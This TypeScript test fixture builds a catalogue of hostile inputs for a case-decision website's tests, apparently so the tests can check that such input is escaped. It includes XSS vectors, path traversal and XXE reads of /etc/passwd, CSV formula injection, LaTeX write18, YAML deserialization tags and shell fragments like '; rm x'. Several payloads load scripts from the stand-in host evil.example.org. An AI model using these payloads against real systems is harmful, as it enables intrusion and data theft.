/**
 * Hostile text: what a stranger may put into a letter, a file's name, a search or an address, so that it is run, takes a page apart, leaves its folder or
 * passes for something else. Each kind is a table: what surrounds (patterns) times what is hidden in it (`§`). Everything here was written for this
 * project. What runs by any of them calls `pwned`, asks the host evil.example.org, or shows a dialog, and that is what tests look out for.
 */

export interface Payload {
  /** `script-17`: the kind, and a number within it. The same from run to run as long as its table is. */
  id: string;
  kind: string;
  text: string;
}

/** Where a payload may ask for something: no such host exists (RFC 2606). */
export const HOSTILE_HOST = 'evil.example.org';

/** Ways to run something, as a script's text. */
const CALLS = ['pwned()', "top['pw'+'ned']`1`", "location='//evil.example.org/'"];
/** The same without quotes, blanks or angle brackets, for places that end at these. */
const BARE_CALLS = ['pwned()', 'alert(1)'];

/** Each pattern with each filling in the place of its `§`. */
function cross(patterns: readonly string[], fillings: readonly string[] = ['']): string[] {
  return patterns.flatMap((pattern) => (pattern.includes('§') ? fillings.map((filling) => pattern.replaceAll('§', () => filling)) : [pattern]));
}

/** Code points as text, between words, so that a reader of a failed test sees where they were. */
function between(...points: readonly number[]): string {
  return `knee${String.fromCodePoint(...points)}brace`;
}

const HANDLED = ['img src=x onerror', 'body onload', 'svg onload', 'video src=x onerror', 'details open ontoggle', 'input autofocus onfocus', 'div style="position:fixed;inset:0" onpointerover', 'p tabindex=0 autofocus onfocusin', 'marquee onstart', 'select autofocus onfocus', 'audio src=x onerror', 'a href=# onclick'];

const TABLE: Readonly<Record<string, readonly string[]>> = {
  script: cross(
    [
      '<script>§</script>', '<SCRIPT>§</SCRIPT>', '<ScRiPt type="text/javascript">§</sCrIpT >', '<script\n>§</script\t>', '<script/x>§</script>', '<<script>§//<</script>', '<script type=module>§</script>',
      '"><script>§</script>', "'><script>§</script>", '<scr<script>ipt>§</scr</script>ipt>', '<script>§', '<noscript><p title="</noscript><script>§</script>">',
    ],
    CALLS,
  ),
  'script-source': cross(['<script src=§></script>', '<script async src="§"></script>', '<script type=importmap>{"imports":{"x":"§"}}</script>', '<link rel=modulepreload href="§">'], ['//evil.example.org/x.js', 'https://evil.example.org/x.js', 'data:text/javascript,pwned()', '/\\evil.example.org/x.js']),
  handler: cross(HANDLED.flatMap((opening) => [`<${opening}="§">`, `<${opening.toUpperCase()}=§ `]), BARE_CALLS),
  'handler-attribute': cross(['" onmouseover="§', "' onmouseover='§", '" autofocus onfocus="§" x="', "' autofocus onfocus='§' x='", '"onpointerenter=§ ', '` onmouseover=`§', 'x onclick=§', '"/onload="§', '" style="animation:x" onanimationstart="§', '">§<a href="'], BARE_CALLS),
  vector: cross(
    [
      '<svg><script>§</script></svg>', '<svg/onload=§>', '<svg><a xlink:href="javascript:§"><text>x</text></a></svg>', '<svg><animate onbegin=§ attributeName=x dur=1s>', '<svg><use href="data:image/svg+xml,<svg onload=§/>"/></svg>', '<svg><foreignObject><img src=x onerror=§></foreignObject></svg>',
      '<svg><style><img src=x onerror=§></style></svg>', '<svg></p><style><a id="</style><img src=x onerror=§>">', '<math><mtext><table><mglyph><style><img src=x onerror=§></style></mglyph></table></mtext></math>', '<math href="javascript:§">x</math>', '<math><mi//xlink:href="data:x,<script>§</script>">',
      '<svg><set attributeName=href to="javascript:§"/></svg>', '<svg><title><![CDATA[</title><img src=x onerror=§>]]></svg>',
    ],
    BARE_CALLS,
  ),
  frame: cross(
    ['<iframe src="§"></iframe>', '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>', '<object data="§"></object>', '<embed src="§">', '<base href="§">', '<meta http-equiv=refresh content="0;url=§">', '<form action="§"><input name=q><button autofocus>x</button></form>', '<frameset><frame src="§"></frameset>', '<portal src="§">', '<applet code="§">', '<button formaction="§">x</button>', '<isindex action="§">', '<area href="§">', '<a href="§" ping="//evil.example.org/">knee</a>'],
    ['javascript:pwned()', '//evil.example.org/', 'data:text/html,<script>parent.pwned()</script>'],
  ),
  style: [
    '<style>*{background:url(//evil.example.org/)}</style>', '<style>@import "//evil.example.org/x.css";</style>', '<link rel=stylesheet href=//evil.example.org/x.css>', '<p style="background:url(//evil.example.org/x)">', '</style><script>pwned()</script>', '<style></style/><img src=x onerror=pwned()>', '{}*{color:red}', '" style="position:fixed;inset:0;z-index:99', 'url(javascript:pwned())',
    'expression(pwned())', '}@import url(//evil.example.org/);{', '<link rel=preload as=fetch href=//evil.example.org/>', '<link rel=prefetch href=//evil.example.org/>', '<link rel=dns-prefetch href=//evil.example.org>', '<link rel=icon href=//evil.example.org/i.png>',
  ],
  resource: cross(['<img src="§">', '<img srcset="§ 2x">', '<video poster="§"></video>', '<picture><source srcset="§"></picture>', '<audio src="§" autoplay></audio>', '<input type=image src="§">', '<track src="§">', '<table background="§">'], ['//evil.example.org/x.png', 'https://evil.example.org/x']),
  link: cross(
    ['javascript:§', 'JaVaScRiPt:§', ' javascript:§', 'java\tscript:§', 'java\nscript:§', '\u0001javascript:§', 'javascript://%0a§', 'javascript&colon;§', '&#106;avascript:§', 'javascript&#x3a;§', 'data:text/html,<script>§</script>', 'data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+', 'vbscript:§', 'view-source:javascript:§', 'blob:javascript:§', '<a href="javascript:§">knee</a>', "<a href='&#x6A;avascript:§'>knee</a>"],
    ['pwned()', 'alert(1)'],
  ),
  address: [
    '//evil.example.org', '///evil.example.org', '/\\evil.example.org', '\\\\evil.example.org\\x', 'https:evil.example.org', 'http://evil.example.org\\@example.org', 'https://example.org@evil.example.org/', 'https://evil.example.org#@example.org', 'https://evil.example.org%2f@example.org', 'mailto:x@example.org?bcc=y@example.org', 'tel:555-0100', 'sms:555-0100',
    'file:///etc/passwd', 'ftp://evil.example.org/', 'ws://evil.example.org/', 'http://[::1]/', 'http://0x7f.1/', '?q=a&outcome=upheld', '#decision-1', '#:~:text=knee', '&page=2&sort=newest', '%', '%zz', '%00', '%0d%0aSet-Cookie:x=1', '%c0%ae%c0%ae', '%E2%80%AE', '+', 'a+b%20c', '?', '#', '&', '=', ';', '/',
  ],
  breakout: cross(
    ['</script>§', '</script >§', '</SCRIPT\n>§', '</title>§', '</textarea>§', '</style>§', '</template>§', '</select>§', '</option></datalist>§', '</noscript>§', '</p></div></main>§', '<!--§', '--> §', '--!>§', '<!-- <script> -->§', '<![CDATA[§', ']]>§', '<!doctype html>§', '<?xml version="1.0"?>§', '<plaintext>§', '<xmp>§', '<body class=x>§', '</body></html>§', '"}]}</script>§', '\\u003c/script>§'],
    ['<img src=x onerror=pwned()>', '<script>pwned()</script>', 'knee'],
  ),
  entity: [
    '&lt;script&gt;pwned()&lt;/script&gt;', '&amp;lt;img src=x onerror=pwned()&amp;gt;', '&#60;img src=x onerror=pwned()&#62;', '&#x3c;svg onload=pwned()&#x3e;', '&lt;/title&gt;&lt;script&gt;pwned()', '&quot; onmouseover=&quot;pwned()', '&#34;onclick=&#34;pwned()', '&NewLine;&Tab;', '&nbsp;&shy;', '&notit;', '&amp', '&#0;', '&#xD800;', '&#x110000;', '&#128;',
    '%3Cscript%3Epwned()%3C/script%3E', '\\x3cscript\\x3epwned()', '\\u003cimg src=x onerror=pwned()\\u003e', '\u00bcscript\u00beredefined', '+ADw-script+AD4-pwned()+ADw-/script+AD4-', '\uff1cscript\uff1epwned()\uff1c/script\uff1e', '\u2039script\u203apwned()',
  ],
  template: cross(
    ['{§}', '${§}', '{{§}}', '{{{§}}}', '<%= § %>', '#{§}', '[[§]]', '{% § %}', "{{constructor.constructor('§')()}}", '`${§}`', '@{§}', '*{§}', '{#await §}', '<template shadowrootmode=open><script>§</script></template>', '<slot onslotchange=§>', 'javascript:`${§}`', '<x is=decision-search>§'],
    ['pwned()', '7*7'],
  ),
  component: [
    '<Fragment set:html="<script>pwned()</script>" />', '<p set:html={pwned()}></p>', '<script is:inline>pwned()</script>', '<style is:global>*{display:none}</style>', '<Page client:load />', '{...pwned()}', '<p {...{onclick:"pwned()"}}>', '<slot name="head" /><script>pwned()</script>', '<x server:defer />', 'Astro.redirect("//evil.example.org")', '<astro-island component-url="//evil.example.org/x.js"></astro-island>', 'import.meta.env', 'export const prerender = false',
    '<p dangerouslySetInnerHTML={{__html: "<img src=x onerror=pwned()>"}}>', '<p v-html="pwned()">', '<p x-data="pwned()">',
  ],
  markdown: [
    ...cross(['[knee](§)', '[knee](<§>)', '![knee](§)', '<§>', '[knee]: §', '[knee][1]\n\n[1]: §', '[knee](§ "title")'], ['javascript:pwned()', 'data:text/html,<script>pwned()</script>', '//evil.example.org']),
    '# knee', '## Decision 1: knee', '## Decision 2: knee', '### Rationale', '## Clinical case summary', '##', '# ', 'knee\n===', 'knee\n---', 'Knee\n\n## Decision 9: more\n\n### Rationale', '- knee', '* knee', '+ knee', '1. knee', '1) knee', '999999999. knee', '> knee', '>> knee', '    knee', '\tknee', '```\nknee\n```', '```js pwned()', '~~~', '`knee`', '``` ` ```', '| a | b |\n|---|---|\n| c | d |',
    '[^1]', '[^1]: knee', '***', '___', '* * *', '---', '- - -', '**knee**', '_knee_', '~~knee~~', 'knee  \nbrace', 'knee\\\nbrace', '\\', '\\<b>knee\\</b>', '<div>\n\n**knee**\n\n</div>', '<!-- knee -->', '<?php pwned() ?>', 'https://evil.example.org/<script>', 'www.evil.example.org', 'x@example.org', '- [ ] knee', ':::note\nknee\n:::', '$$\\input{/etc/passwd}$$', '[[knee]]', '{.class #id onclick=pwned()}', 'knee {: onclick="pwned()"}', '&nbsp;knee', '\\&lt;', '%%', '[toc]',
  ],
  yaml: [
    '---', '--- knee', '...', '---js', '---js\nmodule.exports = pwned()', '---js\n{ caseNumber: pwned() }\n---', '---javascript\npwned()\n---', '--- js\npwned()\n---', '---JS', '---coffee\npwned()', '---json\n{"a":1}\n---', '---cson', '---toml\na=1\n---', '\n---\noutcome: overturned\n---\n', '\n...\n---\n', '!!js/function "function(){ pwned() }"', '!!js/undefined ""', '!!js/regexp /x/', '!!python/object/apply:pwned []', '!<tag:yaml.org,2002:js/function> pwned()', '!!binary aGk=', '!!set {a}', '!x knee', '&a knee',
    '*a', '&a [*a, *a]', '<<: *a', '<<: {outcome: overturned}', 'outcome: overturned', 'knee: brace', 'knee : brace', 'knee #brace', '# knee', '? knee', '- knee', '[knee', '{knee', 'knee]', 'knee}', '"knee', "'knee", "kn''ee", '"kn\\"ee"', '| knee', '> knee', '|+\n knee\n\n', '>-\n knee', '@knee', '`knee', '%YAML 1.2', '%TAG ! x', 'null', 'Null', '~', 'true', 'yes', 'No', 'off', '0', '-0', '0x1F', '0o17', '017', '1_000', '1e3', '.inf', '-.Inf', '.nan', '2016-12-09', '2016-12-09T00:00:00Z', '12:30:45', '=', '!', '\t- knee', ' knee', 'knee ', 'knee:', ':knee', ',knee', 'knee,brace: x', 'key: &x\n  *x',
  ],
  path: [
    '../../x', '..\\..\\x', '../../../../../../etc/passwd', '..', '.', './x', '/etc/passwd', '/', '//', '\\', 'C:\\x', 'C:x', '\\\\server\\share', '\\\\?\\C:\\x', 'file:///x', '%2e%2e%2fx', '%2e%2e/%2e%2e/x', '..%2f..%2fx', '..%5cx', '%252e%252e%252fx', '....//....//x', '..;/x', '.../x', '~/x', '~root', '$HOME/x', '`pwd`/x', '$(touch x)', '; rm x', '| x', '-rf', '--help', 'x\u0000.md', 'x\u0000/../y', '\uff0e\uff0e\uff0fx', '\u2024\u2024/x', '..\u2215x', '\u2025/x', 'CON', 'con.txt', 'PRN', 'AUX', 'NUL', 'NUL.txt', 'COM1', 'LPT9', 'CONIN$', 'x.', 'x ', 'x. .', ' x', '.htaccess', '.git/config', 'web.config',
    'index', 'index.html', 'page-2', 'page/2', '404', '404.html', 'feed.atom', 'case.json', 'superseded', 'undated', 'determinations/2016/CM00-0000001', '_astro', '_astro/x.js', 'search-data', 'node_modules', 'package.json', 'x:y', 'x::$DATA', 'x*y', 'x?y', 'x<y', 'x>y', 'x|y', 'x"y', "x'y", 'x%y', 'x#y', 'x&y', 'x;y', 'x,y', 'x[y]', '[case]', '[...value]', '{x}', '.new', '.old', 'imr-search.json', 'CM00-0000001', 'cm00-0000001', 'CM00-0000001.md', 'CM00-0000001--aaaaaaaa',
  ],
  long: ['knee'.repeat(75), 'a'.repeat(300), 'A'.repeat(300), 'é'.repeat(300), '漢'.repeat(300), '🦴'.repeat(150), `${'a'.repeat(299)}<`, '-'.repeat(300), '.'.repeat(300), '/'.repeat(300), '../'.repeat(100), '<b>'.repeat(100), '"'.repeat(300), '&'.repeat(300), '('.repeat(300), '> '.repeat(150), ' > '.repeat(100), 'knee brace '.repeat(28), '[x]('.repeat(75), '**'.repeat(150), 'e\u0301'.repeat(150), '\\'.repeat(300), '{{'.repeat(150), '%00'.repeat(100)],
  lookalike: [
    '\u0430\u0440\u0440ealed', 'Uph\u0435ld', '\u041c\u0422US', 'CM00\u20110000001', '\u0421\u041c00-0000001', 'CM\u0660\u0660-\u0660\u0660\u0660\u0660\u0660\u0660\u0661', '\uff23\uff2d\uff10\uff10\uff0d\uff10\uff10\uff10\uff10\uff10\uff10\uff11', 'CM00\u20130000001', 'CM0O-OOOOOO1', 'Overtumed', '\u039f\u03b5\u03c1\u03b1\u03c4\u03b9\u03bf\u03bd', '\u1d0cnee', '\u{1d424}\u{1d427}\u{1d41e}\u{1d41e}', '\u24da\u24dd\u24d4\u24d4', '\u{1f1fa}\u{1f1f8}', 'k\u0274ee', '\u017fcript', '<\u017fcript>pwned()</\u017fcript>', '\u212anee', '\u0131njection', '\u0130njection', 'stra\u00dfe', '\ufb01nger', '\u01c6', '\u1e9e', '\u00aa\u00ba', '\u2460', '\u00bd', '\u3000knee\u3000', 'knee\u00adbrace', '\u02bcknee\u02bc', '\u201c><script>pwned()</script>', '\u2019 onclick=pwned()', '\u037e', '\u2024', '\ufe64script\ufe65',
  ],
  control: [
    ...[0, 1, 7, 8, 9, 0xa, 0xb, 0xc, 0xd, 0xe, 0x1a, 0x1b, 0x1c, 0x1d, 0x1e, 0x1f, 0x7f, 0x80, 0x84, 0x85, 0x9b, 0x9f, 0x2028, 0x2029, 0xfdd0, 0xfffe, 0xffff, 0x1fffe, 0x10ffff].map((point) => between(point)),
    between(0xd, 0xa), between(0x1b, 0x5b, 0x33, 0x31, 0x6d), '\u0000<script>pwned()</script>', '<scr\u0000ipt>pwned()</scr\u0000ipt>', '<img\u000bsrc=x\u000conerror=pwned()>', 'java\u0000script:pwned()', '\r\n\r\n<script>pwned()</script>', 'knee\r\nSet-Cookie: x=1', '\ufeff<script>pwned()</script>', '\u001b]0;knee\u0007',
  ],
  direction: [
    ...[0x61c, 0x200e, 0x200f, 0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069, 0x206a, 0x206f].map((point) => between(point)),
    '\u202edlehpu', '\u202e'.repeat(40), '\u2067\u2066knee\u2069', '\u05e9\u05dc\u05d5\u05dd', '\u0627\u0644\u0631\u0643\u0628\u0629', '\u202e>tpircs/<()denwp>tpircs<', 'exe\u202efdp.txt', 'CM00\u202e0000001-\u202c', '\u2067 onclick="pwned()" \u2069',
  ],
  invisible: [...[0xad, 0x34f, 0x115f, 0x17b4, 0x180e, 0x200b, 0x200c, 0x200d, 0x2060, 0x2061, 0x2064, 0x3164, 0xfe00, 0xfe0f, 0xfeff, 0xffa0, 0xfff9, 0xfffc, 0xfffd, 0x1d173, 0xe0001, 0xe0061, 0xe0100].map((point) => between(point)), '\u200b', '\u2063', '\ufeff', '\u200b\u200b\u200b', '\u00a0', '\u3164', '<\u200bscript>pwned()</script>'],
  surrogate: ['\ud800', '\udc00', 'knee\ud83d', '\ude00knee', '\udc00\ud800', 'a\ud800b', '\ud800<script>pwned()</script>', '"\ud800" onclick="pwned()'],
  combining: [`k${'\u0301'.repeat(60)}nee`, '\u0301knee', `${'Z\u0351\u0328\u0315'.repeat(20)}`, 'e\u0301', '\u1112\u1161\u11ab', 'k\u20e3', '\u0e33'.repeat(20), '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}', '\u{1f3f4}\u{e0067}\u{e0062}\u{e007f}', '\u{1f9b4}\u{1f3ff}', '\u{1f1fa}', '\ufdfa', '\u{12031}', '\ua9c5'.repeat(10), '\u{10ffff}', '\u{20000}'],
  property: ['__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', '__defineGetter__', '__lookupSetter__', 'isPrototypeOf', 'toJSON', 'then', 'length', 'name', 'size', 'undefined', 'null', 'NaN', '[object Object]', '__proto__[x]', 'constructor.prototype', '__proto__.polluted', '{"__proto__":{"polluted":true}}', '["__proto__"]', 'watch', 'default', '0', '-1', '1e400', 'document', 'window', 'location', 'innerHTML', 'action', 'submit', 'attributes', 'nodeName', 'form'],
  spreadsheet: cross(['=§', '+§', '-§', '@§', ' =§', '\t=§', '\r=§', '"=§', "'=§", ';=§', ',=§', 'knee;=§', 'knee\n=§', '\uff1d§', '\u00a0=§', '\u200b=§', '\ufeff=§', '%=§', '|§'], ["cmd|' /C calc'!A0", 'HYPERLINK("//evil.example.org","x")', '1+1']),
  xml: [
    '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>', '<!ENTITY % p SYSTEM "//evil.example.org">%p;', '&a;', '&lol9;', '<![CDATA[<script>pwned()</script>]]>', ']]><entry>knee</entry><![CDATA[', '</title><entry><id>x</id></entry>', '</summary></entry></feed>', '<entry/>', '<?xml-stylesheet href="//evil.example.org/x.xsl"?>', '<xi:include href="//evil.example.org/"/>', '<x:script xmlns:x="http://www.w3.org/1999/xhtml">pwned()</x:script>', '"/><link href="//evil.example.org', '</urlset>', 'a & b < c > d', '&#x0;', '&#xFFFE;',
  ],
  citation: [
    'knee}\n}\n@misc{x, title={y}}', 'knee}, url={javascript:pwned()', '\\input{/etc/passwd}', '\\write18{touch x}', '\\immediate\\write18{x}', '\\href{javascript:pwned()}{x}', '{{{{', '}}}}', '$knee^2_3$', '100% #1 & _x_ ~y', '\\', '\\\\', '\\"o', '@comment{', '@string{a="b"}', 'knee\r\nER  - \r\n\r\nTY  - JOUR', 'knee\nUR  - javascript:pwned()', 'ER  - ', 'TI  - knee', '\nTY  - CASE', '"],"URL":"javascript:pwned()","x":["', '", "id": "y', '<i>knee</i>', '<span class="nocase">knee</span>', "''knee''", '``knee', '--- -- -',
  ],
  'own-marks': [
    '[redacted]', 'data-letter', '<mark>knee</mark>', '<span data-letter>knee</span>', '<div data-letter="">knee</div>', '" data-letter="', 'Decision 1: knee', 'Decision 2: ', 'Rationale', '\u25c6', ' > ', 'A > B', '> B', 'A >', 'A > B > C > D', 'Surgery > ', 'knee\u001fbrace', 'knee\u001ebrace', 'knee\u0000brace', '{1}', '{d1}', '{a}', '{x}', '<1/>', '<1>knee</1>', '{2: a|b}', '[2: a|b]', 'request:', 'request:knee', 'rationale:"', 'drug:(', 'NEAR/3', 'knee NEAR', 'knee OR', 'OR', '-knee', '-', '--', '""', '"', '(', ')', '()', '((((', '*', 'kn*', '*nee', 'knee*brace', 'NOT', 'Sample site:', 'Uph eld', 'template', 'data-template="result"', 'data-slot="request"', 'data-part', 'pagefind', 'data-pagefind-body', 'data-pagefind-ignore', 'data-pagefind-filter="x:y"', '___PAGEFIND___', 'es', '?lang=es', 'lang=es', 'none', 'other', 'upheld', 'overturned', 'partially overturned', 'Page 2',
  ],
};

/** All payloads, each text once, in the order of the table. */
export const PAYLOADS: readonly Payload[] = distinct();

function distinct(): Payload[] {
  const seen = new Set<string>();
  return Object.entries(TABLE).flatMap(([kind, texts]) =>
    texts.flatMap((text, index) => {
      if (seen.has(text)) return [];
      seen.add(text);
      return [{ id: `${kind}-${index + 1}`, kind, text }];
    }),
  );
}

/** Some of each kind: the first, the last, and evenly between. @param most of a kind */
export function somePayloads(most: number): Payload[] {
  return [...Map.groupBy(PAYLOADS, ({ kind }) => kind).values()].flatMap((same) => {
    const count = Math.min(most, same.length);
    return Array.from({ length: count }, (_payload, index) => same[count === 1 ? 0 : Math.round((index * (same.length - 1)) / (count - 1))]!);
  });
}
